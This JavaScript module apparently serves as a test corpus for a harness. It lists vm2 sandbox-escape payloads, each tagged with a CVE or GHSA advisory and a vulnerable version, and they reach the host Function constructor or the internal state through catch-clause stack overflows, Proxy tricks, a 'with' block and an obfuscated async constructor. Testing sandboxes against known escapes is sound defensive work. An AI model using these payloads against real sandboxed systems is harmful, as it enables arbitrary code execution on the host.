// What rewrites the code before it runs, and code that it reads in another way than the engine does.
'use strict';

const STATE = 'VM2_INTERNAL_STATE_DO_NOT_USE_OR_PROGRAM_WILL_FAIL';

module.exports = [
  {
    name: 'name-of-its-own-variable', advisory: 'CVE-2023-29199', kind: 'VM', against: '3.9.14',
    code: ({ take }) => `aVM2_INTERNAL_TMPNAME = {};
      const deep = () => { new Error().stack; deep(); };
      try { deep(); } catch (a$tmpname) { ${take('a$tmpname.constructor.constructor')} }`,
  },
  {
    name: 'pattern-of-what-is-caught', advisory: 'CVE-2023-30547', kind: 'VM', against: '3.9.14',
    code: ({ take }) => `const deep = () => { new Error().stack; deep(); };
      const proxied = new Proxy({}, { getPrototypeOf() { deep(); } });
      let result;
      try { throw proxied; } catch ({ constructor: { constructor: made } }) { result = ${take('made')}; }`,
  },
  {
    name: 'state-of-its-own-by-with', advisory: 'GHSA-wp5r-2gw5-m7q7', kind: 'VM', against: '3.10.5', reaches: 'its own state',
    options: (host) => ({ sandbox: { tell: (it) => host.heard.push(it) } }),
    code: `with (${STATE}) { tell(typeof handleException) }`,
    wins: (host) => host.heard.includes('function') && 'its own state',
  },
  {
    name: 'state-of-its-own-by-a-key', advisory: 'GHSA-2cm2-m3w5-gp2f', kind: 'VM', against: '3.11.0', reaches: 'its own state',
    options: (host) => ({ sandbox: { tell: (it) => host.heard.push(it) } }),
    code: `const key = Object.getOwnPropertyNames(globalThis).find((it) => it.startsWith('VM2_')); tell(typeof globalThis[key].handleException)`,
    wins: (host) => host.heard.includes('function') && 'its own state',
  },
  {
    name: 'async-that-is-not-found', advisory: 'before 3.9.4: looked for in the text, and not in what it means', kind: 'VM', against: '3.6.4', reaches: 'late',
    options: (host) => ({ fixAsync: true, allowAsync: false, sandbox: { tell: () => host.returned && host.touch('late') } }),
    code: `const o = { get ['x']() { return 1; } }; Object.getPrototypeOf(eval('(as' + 'ync () => {})')).constructor('await null; tell()')(); 1`,
  },
];
